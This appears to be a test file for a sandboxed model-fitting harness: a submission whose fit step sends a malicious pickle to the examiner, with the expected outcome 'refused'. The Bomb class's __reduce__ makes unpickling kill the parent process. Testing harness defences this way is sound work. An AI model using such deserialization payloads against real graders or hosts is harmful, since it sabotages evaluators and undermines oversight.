"""Sends a pickle that would run code in the examiner.

Ends: refused
Reason: fit sent
"""

import os
import pickle
import struct
import time


class Bomb:
    """Kills whoever unpickles it."""

    def __reduce__(self):
        return os.kill, (os.getppid(), 9)


HEADER = struct.Struct("<cIQ")


def fit(train, context):
    body = pickle.dumps(Bomb())
    os.write(3, HEADER.pack(b"R", 2, len(body)) + b"{}" + body)
    time.sleep(1000)


def predict(artifact, inputs):
    return {"Y": inputs["X"] @ artifact["W"]}
